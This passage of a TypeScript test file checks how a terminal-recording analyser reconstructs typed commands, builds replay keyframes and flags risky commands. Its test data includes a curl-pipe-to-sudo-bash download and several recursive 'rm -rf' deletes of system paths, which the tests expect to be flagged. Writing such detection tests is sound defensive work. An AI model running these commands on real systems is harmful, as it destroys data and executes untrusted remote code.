import { describe, it, expect } from 'vitest';
import { createReadStream, createWriteStream, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { once } from 'node:events';
import { runInNewContext } from 'node:vm';
import { setFlagsFromString } from 'node:v8';
import type * as XtermHeadless from '@xterm/headless';
import type { Terminal as HeadlessTerminal } from '@xterm/headless';
import { analyseCast, analyseFile } from '../../../recordings/analysis.js';
import type { AnalysisOptions, AnalysisResult } from '../../../recordings/analysis.js';
import { RISK_RULES, risksOf } from '../../../recordings/risk-rules.js';
import { eventLine, headerLine } from '../../../recordings/asciicast.js';
import type { EventCode } from '../../../recordings/asciicast.js';
import { REDACTED } from '../../../recordings/redactor.js';
import { isAirlockError } from '../../../core/errors.js';

const require = createRequire(import.meta.url);
const { Terminal } = require('@xterm/headless') as typeof XtermHeadless;

const PROMPT = 'user@db01:~$ ';
const COLOUR_PROMPT = '\x1b[01;32muser@db01\x1b[00m:\x1b[01;34m~\x1b[00m$ ';

/**
 * The order in which a typed key and its echo appear in a recording. airlock's
 * recorder writes a key only once its echo has shown up (recordings/redactor.ts),
 * so the echo comes first; other recorders write the key first.
 */
type Order = 'echo-first' | 'key-first';

/** Writes a recording the way a bash session through airlock produces one. */
class Session {
  readonly #lines: string[];
  #t = 0;

  constructor(readonly options: { kind?: string; cols?: number; rows?: number; order?: Order } = {}) {
    this.#lines = [
      headerLine({
        version: 2,
        width: options.cols ?? 80,
        height: options.rows ?? 24,
        timestamp: 1_700_000_000,
        title: 'user@db01',
        env: { TERM: 'xterm-256color', SHELL: '/bin/bash' },
        airlock: { kind: options.kind ?? 'terminal', session: 'c0ffee' },
      }),
    ];
  }

  get t(): number {
    return this.#t;
  }

  event(code: EventCode, data: string, dt = 0.05): this {
    this.#t += dt;
    this.#lines.push(eventLine(this.#t, code, data));
    return this;
  }

  out(data: string, dt?: number): this {
    return this.event('o', data, dt);
  }

  key(data: string, dt?: number): this {
    return this.event('i', data, dt);
  }

  /**
   * Keys and what the shell echoes for them, in this recording's order. The
   * recorder holds back only keys that must show up in the echo (printable ones);
   * control keys and escape sequences (arrows, Tab, Ctrl-R) it writes at once.
   */
  press(keys: string, echo: string): this {
    const printable = keys.replace(/\x1b\[[0-9;?]*[ -/]*[@-~]|\x1b./g, '').replace(/[\x00-\x1f\x7f]/g, '');
    return this.options.order === 'key-first' || !printable ? this.key(keys).out(echo) : this.out(echo).key(keys);
  }

  type(text: string): this {
    for (const ch of text) this.press(ch, ch);
    return this;
  }

  /** Enter (written at once: it has no echo to wait for), then the output and the next prompt. */
  enter(output = '', prompt = PROMPT): this {
    return this.key('\r').out('\r\n' + output + prompt);
  }

  run(command: string, output = '', prompt = PROMPT): this {
    return this.type(command).enter(output, prompt);
  }

  text(): string {
    return this.#lines.join('');
  }

  bytes(): Buffer {
    return Buffer.from(this.text());
  }
}

function analyse(cast: Session | Buffer | string, options?: AnalysisOptions): Promise<AnalysisResult> {
  const bytes = cast instanceof Session ? cast.bytes() : Buffer.from(cast);
  return analyseCast([bytes], options);
}

const texts = (r: AnalysisResult): string[] => r.commands.map((c) => c.text);

function* chunked(bytes: Buffer, size: number): Generator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield new Uint8Array(bytes.subarray(i, i + size));
}

/** The event line starting at a byte offset. */
function eventAt(bytes: Buffer, offset: number): [number, string, string] {
  const end = bytes.indexOf(10, offset);
  return JSON.parse(bytes.subarray(offset, end === -1 ? bytes.length : end).toString('utf8')) as [number, string, string];
}

function expectLineStart(bytes: Buffer, offset: number): void {
  expect(bytes[offset]).toBe('['.charCodeAt(0));
  expect(bytes[offset - 1]).toBe('\n'.charCodeAt(0));
}

describe.each<Order>(['echo-first', 'key-first'])('commands typed at a prompt (%s)', (order) => {
  const session = (options: { cols?: number; rows?: number } = {}): Session => new Session({ ...options, order }).out('Last login: Mon Jan  1 10:00:00 2024\r\n' + PROMPT);

  it('reads each command line as the terminal shows it, without the prompt', async () => {
    const s = session()
      .run('whoami', 'user\r\n')
      .run('uname -a', 'Linux db01 6.1.0-18-amd64 #1 SMP x86_64 GNU/Linux\r\n')
      .run('  cat /etc/os-release  ', 'PRETTY_NAME="Debian GNU/Linux 12"\r\n');
    const r = await analyse(s);
    expect(r.kind).toBe('terminal');
    expect(texts(r)).toEqual(['whoami', 'uname -a', 'cat /etc/os-release']);
    expect(r.commands.map((c) => c.seq)).toEqual([0, 1, 2]);
  });

  it('points each command at the event line of its Enter key, with its time', async () => {
    const s = session().run('ls', 'a  b\r\n').run('df -h', 'Filesystem Size\r\n');
    const bytes = s.bytes();
    const r = await analyse(bytes);
    expect(r.commands).toHaveLength(2);
    for (const c of r.commands) {
      expectLineStart(bytes, c.castOffset);
      const [t, code, data] = eventAt(bytes, c.castOffset);
      expect(code).toBe('i');
      expect(data).toBe('\r');
      expect(c.t).toBe(t);
    }
  });

  it('follows backspace', async () => {
    const s = session().type('ls -la /tmq').press('\x7f', '\b \b').type('p').enter('total 0\r\n');
    expect(texts(await analyse(s))).toEqual(['ls -la /tmp']);
  });

  it('follows Ctrl-U, which discards what was typed', async () => {
    const s = session().type('rm -rf /').press('\x15', '\b'.repeat(8) + '\x1b[K').type('ls').enter('a  b\r\n');
    const r = await analyse(s);
    expect(texts(r)).toEqual(['ls']);
    expect(r.commands[0]?.risks).toEqual([]);
  });

  it('follows the arrow keys and a character inserted in the middle', async () => {
    // readline echoes an inserted character with the rest of the line, then moves back.
    const s = session().type('echo helo').press('\x1b[D', '\b').press('l', 'lo\b').enter('hello\r\n');
    expect(texts(await analyse(s))).toEqual(['echo hello']);
  });

  it('follows tab completion', async () => {
    const s = session().type('cat /etc/hos').press('\t', 'ts ').enter('127.0.0.1 localhost\r\n');
    expect(texts(await analyse(s))).toEqual(['cat /etc/hosts']);
  });

  it('reads a command recalled from history, which only the echo shows', async () => {
    const s = session()
      .run('systemctl status nginx', 'active (running)\r\n')
      .press('\x1b[A', 'systemctl status nginx')
      .enter('active (running)\r\n')
      // Recalled over something typed: readline moves back, redraws and erases the rest.
      .type('xy')
      .press('\x1b[A', '\b\bsystemctl status nginx\x1b[K')
      .press('\x1b[A', '\b'.repeat(22) + 'uptime\x1b[K')
      .enter(' 10:00:00 up 3 days\r\n');
    expect(texts(await analyse(s))).toEqual(['systemctl status nginx', 'systemctl status nginx', 'uptime']);
  });

  it('reads a command accepted from reverse history search', async () => {
    const s = session()
      .run('ssh db02', 'db02$ exit\r\n')
      .press('\x12', "\r\x1b[K(reverse-i-search)`': ")
      .press('s', "\r(reverse-i-search)`s': ssh db02\x1b[K")
      .press('s', "\r(reverse-i-search)`ss': ssh db02\x1b[K")
      .key('\r')
      .out(`\r\x1b[K${PROMPT}ssh db02\r\ndb02$ `);
    expect(texts(await analyse(s))).toEqual(['ssh db02', 'ssh db02']);
  });

  it('reads a command wrapped over two rows', async () => {
    const long = 'find /var/www/html -type f -name "*.php" -newer /var/www/html/index.php -exec ls -la {} +';
    expect(PROMPT.length + long.length).toBeGreaterThan(80);
    const s = session().run(long, './wp-config.php\r\n');
    expect(texts(await analyse(s))).toEqual([long]);
  });

  it('reads a wrapped command typed on the last row, while the screen scrolls', async () => {
    const long = 'tar czf /tmp/backup-$(date +%F).tar.gz /etc /var/lib/postgresql/15/main --exclude="*.tmp"';
    const listing = Array.from({ length: 40 }, (_, i) => `line ${i}\r\n`).join('');
    const s = session({ rows: 10 }).run('seq 40', listing).run(long, 'tar: Removing leading `/\'\r\n').run('echo done', 'done\r\n');
    expect(texts(await analyse(s))).toEqual(['seq 40', long, 'echo done']);
  });

  it('reads commands after `clear` and after Ctrl-L pressed while typing', async () => {
    const s = session()
      .run('clear', '\x1b[H\x1b[2J\x1b[3J')
      .type('ls -l')
      .press('\x0c', `\x1b[H\x1b[2J${PROMPT}ls -l`)
      .type('a')
      .enter('total 0\r\n');
    expect(texts(await analyse(s))).toEqual(['clear', 'ls -la']);
  });

  it('skips empty lines and lines abandoned with Ctrl-C', async () => {
    const s = session()
      .enter()
      .enter()
      .type('rm -rf /opt/app')
      .press('\x03', `^C\r\n${PROMPT}`)
      .run('ls /opt', 'app\r\n');
    expect(texts(await analyse(s))).toEqual(['ls /opt']);
  });

  it('leaves out a password typed without echo, and reads the command that asked for it', async () => {
    const s = session()
      .run('sudo systemctl restart nginx', '[sudo] password for user: ', '')
      .key(REDACTED)
      .key(REDACTED)
      .key('\r')
      .out('\r\n' + PROMPT)
      .run('id', 'uid=1000(user)\r\n');
    const r = await analyse(s);
    expect(texts(r)).toEqual(['sudo systemctl restart nginx', 'id']);
    expect(r.commands.some((c) => c.text.includes('redacted'))).toBe(false);
  });

  it('leaves out a password whose keys the recorder decided on only after the output that followed', async () => {
    // The recorder holds keys until it knows whether they were echoed: the password
    // and its Enter can land after the command's output and the next prompt.
    const s = session()
      .run('sudo -k apt-get update', '[sudo] password for user: ', '')
      .out('\r\nHit:1 http://deb.debian.org/debian bookworm InRelease\r\n' + PROMPT)
      .key(REDACTED)
      .key('\r')
      .run('apt list --upgradable', 'Listing... Done\r\n');
    expect(texts(await analyse(s))).toEqual(['sudo -k apt-get update', 'apt list --upgradable']);
  });

  it('reads the command that starts a full-screen program, and nothing typed inside it', async () => {
    const s = session()
      .run('vim /etc/hosts', VIM_OPEN, '')
      .key(REDACTED) // `i`: vim does not echo it, so the recorder hides it
      .press('1', '\x1b[4;1H1')
      .press('0', '0')
      .press('\x1b', '\x1b[24;1H\x1b[K')
      .press(':', '\x1b[24;1H:')
      .type('wq')
      .key('\r')
      .out('\x1b[24;1H"/etc/hosts" 4L, 61B written' + VIM_CLOSE + PROMPT)
      .run('ls', 'hosts\r\n');
    expect(texts(await analyse(s))).toEqual(['vim /etc/hosts', 'ls']);
  });

  it('starts a new line when a full-screen program left without an Enter (less, q)', async () => {
    const s = session()
      .run('less /var/log/syslog', '\x1b[?1049h\x1b[22;0;0t\x1b[?1h\x1b=\rJan  1 10:00:00 db01 systemd[1]: Started.\r\n:', '')
      .key('q')
      .out('\r\x1b[K\x1b[?1l\x1b>\x1b[?1049l\x1b[23;0;0t' + PROMPT)
      .run('pwd', '/home/user\r\n');
    expect(texts(await analyse(s))).toEqual(['less /var/log/syslog', 'pwd']);
  });

  it('reads a line with a coloured prompt, and wide characters', async () => {
    const s = new Session({ order }).out(COLOUR_PROMPT).run('echo 日本語 ok', '日本語 ok\r\n', COLOUR_PROMPT).run('ls', '\x1b[0m\x1b[01;34mbin\x1b[0m\r\n', COLOUR_PROMPT);
    expect(texts(await analyse(s))).toEqual(['echo 日本語 ok', 'ls']);
  });

  it('reads commands after the terminal was resized', async () => {
    const long = 'rsync -avz --delete /srv/data/ backup@10.0.0.9:/backups/db01/data/ --exclude cache --bwlimit=5000';
    const s = session().run('ls', 'a\r\n').event('r', '120x40').run(long, 'sent 1,024 bytes\r\n').event('r', '60x20').run(long, 'sent 1,024 bytes\r\n');
    const r = await analyse(s);
    expect(texts(r)).toEqual(['ls', long, long]);
    expect(r.commands[1]?.risks.map((x) => x.rule)).toEqual(['data-copy-out']);
  });
});

/** vim opening /etc/hosts on 80×24: alternate screen, a scroll region, the text, tildes, the status line. */
const VIM_OPEN =
  '\x1b[?1049h\x1b[22;0;0t\x1b[>4;2m\x1b[?1h\x1b=\x1b[?2004h\x1b[1;24r\x1b[27m\x1b[23m\x1b[29m\x1b[m\x1b[H\x1b[2J\x1b[?25l' +
  '\x1b[24;1H"/etc/hosts" 3L, 58B\x1b[1;1H127.0.0.1\tlocalhost\r\n::1\t\tlocalhost ip6-localhost\r\n10.0.0.5\tdb01\r\n' +
  Array.from({ length: 20 }, () => '\x1b[94m~                                                                               \x1b[m').join('') +
  '\x1b[24;63H1,1\x1b[11CAll\x1b[1;1H\x1b[?25h';
const VIM_CLOSE = '\r\n\x1b[?1l\x1b>\x1b[?2004l\x1b[?1049l\x1b[23;0;0t';

describe('commands: pastes and recordings of other kinds', () => {
  it('reads a pasted line whose Enter came in the same chunk, echoed before it (as the recorder writes it)', async () => {
    const s = new Session().out(PROMPT).out('ls -la /var/log\r\n').key('ls -la /var/log\r').out('total 0\r\n' + PROMPT);
    expect(texts(await analyse(s))).toEqual(['ls -la /var/log']);
  });

  it('reads a pasted line followed by a separate Enter, in either order', async () => {
    for (const order of ['echo-first', 'key-first'] as const) {
      const s = new Session({ order }).out(PROMPT).press('\x1b[200~df -h /\x1b[201~', 'df -h /').enter('/dev/sda1 20G\r\n');
      expect(texts(await analyse(s))).toEqual(['df -h /']);
    }
  });

  it('reads a pasted line whose Enter came in the same chunk before its echo (key first)', async () => {
    const s = new Session({ order: 'key-first' }).out(PROMPT).key('ls -la /var/log\r').out('ls -la /var/log').out('\r\ntotal 0\r\n' + PROMPT);
    expect(texts(await analyse(s))).toEqual(['ls -la /var/log']);
  });

  it('reads a line whose last keys were echoed only after the Enter key (key first, a slow link)', async () => {
    const s = new Session({ order: 'key-first' }).out(PROMPT).key('d').out('d').key('f').key('\r').out('f\r\nFilesystem\r\n' + PROMPT);
    expect(texts(await analyse(s))).toEqual(['df']);
  });

  it('reads only the first line of a multi-line paste (the screen does not show the rest yet)', async () => {
    const s = new Session().out(PROMPT).out('echo one\r\n').key('echo one\recho two\r').out(`one\r\n${PROMPT}echo two\r\ntwo\r\n${PROMPT}`);
    expect(texts(await analyse(s))).toEqual(['echo one']);
  });

  it('takes the command of an exec recording from its marker', async () => {
    const s = new Session({ kind: 'exec' })
      .event('m', 'exec: sudo rm -rf /var/lib/mysql')
      .out('removed directory /var/lib/mysql\r\n')
      .event('m', 'stderr')
      .out('rm: cannot remove: Busy\r\n')
      .key('y\r');
    const bytes = s.bytes();
    const r = await analyse(bytes);
    expect(r.kind).toBe('exec');
    expect(texts(r)).toEqual(['sudo rm -rf /var/lib/mysql']);
    const c = r.commands[0];
    expect(c?.risks.map((x) => x.rule)).toEqual(['recursive-delete']);
    expect(c && eventAt(bytes, c.castOffset)).toEqual([0.05, 'm', 'exec: sudo rm -rf /var/lib/mysql']);
    expect(c?.t).toBe(0.05);
  });

  it('finds no commands in an sftp recording', async () => {
    const s = new Session({ kind: 'sftp' }).event('m', 'sftp: open /etc/passwd').key('ls\r').out('x');
    const r = await analyse(s);
    expect(r.kind).toBe('sftp');
    expect(r.commands).toEqual([]);
  });

  it("treats a header without airlock.kind as a terminal recording", async () => {
    const cast = JSON.stringify({ version: 2, width: 80, height: 24 }) + '\n' + eventLine(0.1, 'o', PROMPT) + eventLine(0.2, 'i', 'w') + eventLine(0.3, 'o', 'w') + eventLine(0.4, 'i', '\r');
    const r = await analyse(cast);
    expect(r.kind).toBe('terminal');
    expect(texts(r)).toEqual(['w']);
  });

  it('attaches the risks each command matches', async () => {
    const s = new Session().out(PROMPT).run('sudo rm -rf /etc', '').run('curl -fsSL https://get.example.com | sudo bash', '').run('ls', '');
    const r = await analyse(s);
    expect(r.commands.map((c) => c.risks.map((x) => `${x.rule}:${x.severity}`))).toEqual([
      ['recursive-delete-system:high'],
      ['remote-code:high'],
      [],
    ]);
  });
});

// ---------------------------------------------------------------------------
// Keyframes

function terminal(cols: number, rows: number): HeadlessTerminal {
  return new Terminal({ cols, rows, scrollback: 0, allowProposedApi: true, logLevel: 'off' });
}

function write(term: HeadlessTerminal, data: string): Promise<void> {
  return new Promise((resolve) => term.write(data, resolve));
}

interface Screen {
  rows: string[];
  x: number;
  y: number;
  alternate: boolean;
}

/** What a viewer sees: each row's text, the cursor, which screen. */
function visible(term: HeadlessTerminal): Screen {
  const b = term.buffer.active;
  const rows: string[] = [];
  // Up to the right margin: after the terminal got narrower, xterm keeps hidden cells past it.
  for (let y = 0; y < term.rows; y++) rows.push(b.getLine(b.baseY + y)?.translateToString(true, 0, term.cols) ?? '');
  return { rows, x: b.cursorX, y: b.cursorY, alternate: b.type === 'alternate' };
}

type Ev = [number, string, string];

function events(bytes: Buffer, from: number, to = bytes.length): Ev[] {
  return bytes
    .subarray(from, to)
    .toString('utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Ev);
}

/** Plays "o" and "r" events as a player would (output between resizes in one write). */
async function play(term: HeadlessTerminal, evs: Ev[]): Promise<void> {
  let batch = '';
  for (const [, code, data] of evs) {
    if (code === 'o') batch += data;
    if (code !== 'r') continue;
    await write(term, batch);
    batch = '';
    const m = /^(\d+)x(\d+)$/.exec(data);
    if (m) term.resize(Number(m[1]), Number(m[2]));
  }
  await write(term, batch);
}

/**
 * THE property of keyframes: from any keyframe, a player that writes its screen
 * into a fresh terminal and plays on from castOffset ends up showing what a
 * player that played the whole file shows; and the keyframe alone shows the
 * screen as it was at that point.
 */
async function expectReplayFromEveryKeyframe(bytes: Buffer, options: AnalysisOptions = { keyframeBytes: 1 }): Promise<AnalysisResult> {
  const r = await analyseCast([bytes], options);
  const headerEnd = bytes.indexOf(10) + 1;
  const header = JSON.parse(bytes.subarray(0, headerEnd).toString('utf8')) as { width: number; height: number };
  const all = events(bytes, headerEnd);
  const whole = terminal(header.width, header.height);
  await play(whole, all);
  const end = visible(whole);
  whole.dispose();
  expect(r.keyframes.length).toBeGreaterThan(2);
  for (const kf of r.keyframes) {
    expectLineStart(bytes, kf.castOffset);
    const fromKeyframe = terminal(kf.cols, kf.rows);
    await write(fromKeyframe, kf.screen);
    const upTo = terminal(header.width, header.height);
    await play(upTo, events(bytes, headerEnd, kf.castOffset));
    expect(visible(fromKeyframe), `the screen of keyframe ${kf.seq}`).toEqual(visible(upTo));
    expect([upTo.cols, upTo.rows]).toEqual([kf.cols, kf.rows]);
    upTo.dispose();
    await play(fromKeyframe, events(bytes, kf.castOffset));
    expect(visible(fromKeyframe), `replay from keyframe ${kf.seq} (t=${kf.t})`).toEqual(end);
    fromKeyframe.dispose();
  }
  return r;
}

const LS_COLOUR =
  'total 24\r\n' +
  'drwxr-xr-x 2 user user 4096 Jan  1 10:00 \x1b[0m\x1b[01;34mbin\x1b[0m\r\n' +
  '-rwxr-xr-x 1 user user  220 Jan  1 10:00 \x1b[01;32mdeploy.sh\x1b[0m\r\n' +
  'lrwxrwxrwx 1 user user    9 Jan  1 10:00 \x1b[01;36mlatest\x1b[0m -> \x1b[01;34mrelease-42\x1b[0m\r\n' +
  '-rw-r--r-- 1 user user 1.2G Jan  1 10:00 \x1b[01;31mbackup.tar.gz\x1b[0m\r\n' +
  'prw-r--r-- 1 user user    0 Jan  1 10:00 \x1b[40;33mfifo\x1b[0m\r\n';

describe('keyframes', () => {
  it('starts with an empty screen at t = 0, pointing just past the header', async () => {
    const s = new Session({ cols: 100, rows: 30 }).out(PROMPT).run('ls', 'a\r\n');
    const bytes = s.bytes();
    const r = await analyse(bytes);
    const first = r.keyframes[0];
    expect(first).toMatchObject({ seq: 0, t: 0, castOffset: bytes.indexOf(10) + 1, cols: 100, rows: 30 });
    const term = terminal(100, 30);
    await write(term, first?.screen ?? 'missing');
    expect(visible(term)).toEqual({ rows: Array<string>(30).fill(''), x: 0, y: 0, alternate: false });
    term.dispose();
  });

  it('replays plain output that scrolls', async () => {
    const s = new Session().out(PROMPT);
    for (let i = 0; i < 6; i++) s.run(`cat /var/log/app-${i}.log`, Array.from({ length: 9 }, (_, j) => `2024-01-01 10:0${j}:00 INFO request ${i}.${j} served in ${j * 3} ms\r\n`).join(''));
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('replays colours and attributes', async () => {
    const s = new Session().out(COLOUR_PROMPT);
    s.run('ls -l --color', LS_COLOUR, COLOUR_PROMPT)
      .run('printf', '\x1b[1mbold\x1b[22m \x1b[4munder\x1b[24m \x1b[7minverse\x1b[27m \x1b[38;5;208morange\x1b[39m \x1b[38;2;10;200;30mtrue\x1b[0m\r\n', COLOUR_PROMPT)
      .run('git diff', '\x1b[1mdiff --git a/x b/x\x1b[m\r\n\x1b[31m-old\x1b[m\r\n\x1b[32m+new\x1b[m\r\n\x1b[41m   \x1b[m\r\n', COLOUR_PROMPT)
      // A coloured background left on: the erased rest of the line takes it.
      .out('\x1b[44m\x1b[K status \x1b[0m\r\n' + COLOUR_PROMPT);
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('replays cursor movement: progress bars, a status line in a scroll region, tabs', async () => {
    const s = new Session().out(PROMPT).type('apt-get install -y nginx').key('\r');
    // apt keeps a progress bar on the last row: scroll region above it, DECSC/DECRC around each update.
    s.out('\r\n\x1b7\x1b[0;23r\x1b8\x1b[1A');
    for (let i = 0; i <= 100; i += 20) {
      s.out(`Unpacking nginx-${i} ...\r\n\x1b7\x1b[24;0f\x1b[42m\x1b[30mProgress: [${String(i).padStart(3)}%]\x1b[49m\x1b[39m [${'#'.repeat(i / 5)}${'.'.repeat(20 - i / 5)}] \x1b8`);
    }
    s.out('\x1b7\x1b[0;24r\x1b8\x1b[1A\x1b[J' + PROMPT);
    s.run('curl -O https://example.com/big.iso', ['  5%', ' 37%', ' 88%', '100%'].map((p) => `\r${p} [=====>    ] 1.2M/s`).join('') + '\r\n');
    s.run('printf "a\\tb\\tc\\n"', 'a\tb\tc\r\n');
    s.out('\x1b[5;10Hmoved\x1b[2A\x1b[3Dup\x1b[B\x1b[2Cright\x1b[H' + PROMPT);
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('replays clear screen and Ctrl-L', async () => {
    const s = new Session().out(PROMPT).run('ls -l', LS_COLOUR).run('clear', '\x1b[H\x1b[2J\x1b[3J').run('echo after', 'after\r\n').type('ls').press('\x0c', `\x1b[H\x1b[2J${PROMPT}ls`).enter('a\r\n');
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('replays a vim session on the alternate screen, with its scroll region', async () => {
    const s = new Session().out(PROMPT).run('ls', 'hosts\r\n').run('vim /etc/hosts', VIM_OPEN, '');
    s.key(REDACTED).out('\x1b[24;1H\x1b[1m-- INSERT --\x1b[m\x1b[24;13H\x1b[K\x1b[4;1H');
    for (const ch of '10.0.0.6\tdb02') s.press(ch, ch === '\t' ? '\t' : ch);
    // New lines at the bottom: vim scrolls the region above its status line.
    for (let i = 0; i < 25; i++) s.press('\r', `\r\n`).type(`host-${i}`);
    s.out('\x1b[23;1H\r\n\x1b[1;23r\x1b[23;1H\x1b[Kscrolled by hand\x1b[1;24r\x1b[24;63H30,5\x1b[10CBot');
    s.press('\x1b', '\x1b[24;1H\x1b[K').press(':', '\x1b[24;1H:').type('wq').key('\r');
    s.out('\x1b[24;1H"/etc/hosts" 29L, 300B written' + VIM_CLOSE + PROMPT).run('echo done', 'done\r\n');
    const r = await expectReplayFromEveryKeyframe(s.bytes());
    expect(texts(r)).toEqual(['ls', 'vim /etc/hosts', 'echo done']);
  });

  it('replays a full-screen program that draws boxes with the line-drawing character set', async () => {
    const box = (row: number): string => `\x1b[${row};10H\x1b(0lqqqqqqqqqqk\x1b(B\x1b[${row + 1};10H\x1b(0x\x1b(B  Proceed \x1b(0x\x1b(B\x1b[${row + 2};10H\x1b(0mqqqqqqqqqqj\x1b(B`;
    const s = new Session().out(PROMPT).run('dialog --yesno Proceed 5 20', '\x1b[?1049h\x1b[H\x1b[2J\x1b[?25l' + box(5), '');
    s.out(box(6)).out('\x1b(0').out('lqk').out('\x1b(B').out(box(10));
    s.press('\r', '\x1b[?25h\x1b[?1049l' + PROMPT);
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('replays across resizes, also while the alternate screen shows', async () => {
    const long = 'x'.repeat(150);
    const s = new Session().out(PROMPT).run('echo $LONG', long + '\r\n').event('r', '120x40').run('ls -l', LS_COLOUR).event('r', '60x15');
    s.run('top', '\x1b[?1049h\x1b[H\x1b[2Jtop - 10:00:00 up 3 days\r\nTasks: 93 total\x1b[5;1H  PID USER  %CPU', '');
    s.event('r', '100x30').out('\x1b[H\x1b[2Jtop - 10:00:03 up 3 days\r\nTasks: 94 total\x1b[5;1H  PID USER      %CPU');
    s.key('q').out('\x1b[?1049l' + PROMPT).event('r', '80x24').run('echo $LONG', long + '\r\n');
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('replays output that stops exactly at the right margin (a pending wrap)', async () => {
    const s = new Session({ cols: 40, rows: 8 }).out(PROMPT);
    s.out('a'.repeat(40)).out('b'.repeat(40)).out('c'.repeat(40)).out('\x1b[1;31m' + 'd'.repeat(40)).out('\x1b[0m' + 'e'.repeat(39) + '日').out('f').out('\r\n' + PROMPT);
    s.out('\x1b[?1049h\x1b[H' + 'g'.repeat(40)).out('h').out('\x1b[?1049l' + PROMPT);
    await expectReplayFromEveryKeyframe(s.bytes());
  });

  it('keeps the property on random terminal output (seeded)', async () => {
    let seed = 20240101;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed / 0x7fffffff;
    };
    const int = (n: number): number => Math.floor(random() * n);
    for (let run = 0; run < 12; run++) {
      let cols = 20 + int(60);
      let rows = 5 + int(20);
      const s = new Session({ cols, rows });
      const ops = (): string[] => [
        'hello', 'wörld', '日本語', 'x'.repeat(90), 'z'.repeat(cols), '\r\n', '\r\n', '\r', '\b', '\t',
        `\x1b[${1 + int(rows)};${1 + int(cols)}H`, `\x1b[${1 + int(5)}A`, `\x1b[${1 + int(9)}C`, '\x1b[K', '\x1b[1K', '\x1b[J',
        '\x1b[1;31m', '\x1b[0m', '\x1b[44m', '\x1b[38;2;1;2;3m', '\x1b[7m',
        '\x1b[?1049h\x1b[H\x1b[2J', '\x1b[?1049l', `\x1b[2;${rows - 1}r`, '\x1b[r', '\x1bM', '\x1b[2L', '\x1b[3M', '\x1b[2P', '\x1b[3@',
        '\x1b7', '\x1b8', '\x1b[?7l', '\x1b[?7h', '\x1b[4h', '\x1b[4l', '\x1b[?6h', '\x1b[?6l',
        '\x1b(0lqqk\x1b(B', '\x1b(0', '\x1b(B', '\x1b[H\x1b[2J',
      ];
      for (let i = 0; i < 60; i++) {
        if (random() < 0.04) {
          cols = 20 + int(60);
          rows = 5 + int(20);
          s.event('r', `${cols}x${rows}`);
          continue;
        }
        const list = ops();
        let data = '';
        for (let k = 1 + int(3); k > 0; k--) data += list[int(list.length)] ?? '';
        s.out(data);
      }
      await expectReplayFromEveryKeyframe(s.bytes());
    }
  });

  it('takes one once keyframeBytes of output were written since the last, at the next event line', async () => {
    const s = new Session().out(PROMPT);
    for (let i = 0; i < 40; i++) s.out(`line ${i} `.padEnd(100, '.') + '\r\n');
    const bytes = s.bytes();
    const r = await analyse(bytes, { keyframeBytes: 1000, keyframeSeconds: 1e9 });
    // 13 bytes of prompt, then 102 bytes an event: due after events 10, 20, 30 and 40 of
    // the lines; the last is due at the end of the file, where no event line follows.
    expect(r.keyframes.length).toBe(4);
    let previous = r.keyframes[0]?.castOffset ?? 0;
    for (const kf of r.keyframes.slice(1)) {
      const between = events(bytes, previous, kf.castOffset).filter((e) => e[1] === 'o');
      const sizes = between.map((e) => Buffer.byteLength(e[2]));
      const total = sizes.reduce((a, b) => a + b, 0);
      expect(total).toBeGreaterThanOrEqual(1000);
      expect(total - (sizes.at(-1) ?? 0)).toBeLessThan(1000);
      expect(kf.t).toBe(between.at(-1)?.[0]);
      previous = kf.castOffset;
    }
    expect(r.keyframes.map((k) => k.seq)).toEqual(r.keyframes.map((_, i) => i));
  });

  it('takes one once keyframeSeconds passed with some output since the last', async () => {
    const s = new Session().out(PROMPT, 0);
    for (let i = 0; i < 10; i++) s.out('.', 7); // output at t = 7, 14 … 70
    s.key('x', 30).key('y', 30).key('z', 30); // t = 100, 130, 160: no output
    const bytes = s.bytes();
    const r = await analyse(bytes, { keyframeSeconds: 30 });
    // Due after t = 35 (35 s since 0) and t = 70 (35 s since 35); not after the keys:
    // no output since the keyframe at 70.
    expect(r.keyframes.map((k) => k.t)).toEqual([0, 35, 70]);
    for (const kf of r.keyframes) expectLineStart(bytes, kf.castOffset);
  });

  it('rejects keyframe options that make no sense', async () => {
    for (const options of [{ keyframeBytes: 0 }, { keyframeBytes: Number.NaN }, { keyframeSeconds: -1 }]) {
      await expect(analyseCast([Buffer.from('')], options)).rejects.toSatisfy((e: unknown) => isAirlockError(e, 'ERR_INVALID_INPUT'));
    }
  });
});

// ---------------------------------------------------------------------------
// Reading the file

describe('reading a recording', () => {
  const sample = (): Session =>
    new Session()
      .out('Bienvenue, café ☕ 日本語\r\n' + PROMPT)
      .run('echo ünïcödé', 'ünïcödé\r\n')
      .run('ls', LS_COLOUR)
      .event('m', 'a marker')
      .event('r', '100x30')
      .run('cat notes-日本.txt', 'ok\r\n');

  it('counts events, UTF-8 bytes of output, and the duration', async () => {
    const s = new Session().out('é', 0.5).key('a', 0.5).out('日本', 1).event('m', 'x', 1).event('r', '90x20', 1);
    const r = await analyse(s);
    expect(r).toMatchObject({ events: 5, outputBytes: 2 + 6, duration: 4, truncated: false });
  });

  it('gives the same result however the file is cut into chunks, with byte offsets', async () => {
    const bytes = sample().bytes();
    const whole = await analyseCast([bytes], { keyframeBytes: 50 });
    expect(texts(whole)).toEqual(['echo ünïcödé', 'ls', 'cat notes-日本.txt']);
    for (const size of [1, 3, 7, 64, 4096]) {
      expect(await analyseCast(chunked(bytes, size), { keyframeBytes: 50 })).toEqual(whole);
    }
    for (const c of whole.commands) {
      expectLineStart(bytes, c.castOffset);
      expect(eventAt(bytes, c.castOffset)).toEqual([c.t, 'i', '\r']);
    }
    for (const kf of whole.keyframes) expectLineStart(bytes, kf.castOffset);
  });

  it('accepts an async iterable, and a file', async () => {
    const bytes = sample().bytes();
    async function* slowly(): AsyncGenerator<Uint8Array> {
      for (const c of chunked(bytes, 100)) {
        await new Promise((r) => setImmediate(r));
        yield c;
      }
    }
    const whole = await analyseCast([bytes]);
    expect(await analyseCast(slowly())).toEqual(whole);
